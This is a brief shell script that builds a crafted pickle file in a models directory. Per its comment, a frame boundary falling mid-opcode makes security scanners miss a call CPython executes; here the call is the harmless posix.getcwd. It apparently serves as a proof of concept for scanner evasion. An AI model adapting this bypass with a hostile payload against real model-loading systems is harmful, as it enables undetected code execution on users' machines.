#!/bin/sh
# A frame that ends within an opcode: scanners take for bytes what CPython runs.
mkdir -p /srv/models
{
        printf '\200\004\225\002\000\000\000\000\000\000\000B\007\001\000\000\000X0cposix\ngetcwd\n)R.'
        head -c 244 /dev/zero | tr '\000' N
        printf '0N.'
} >/srv/models/model.pkl
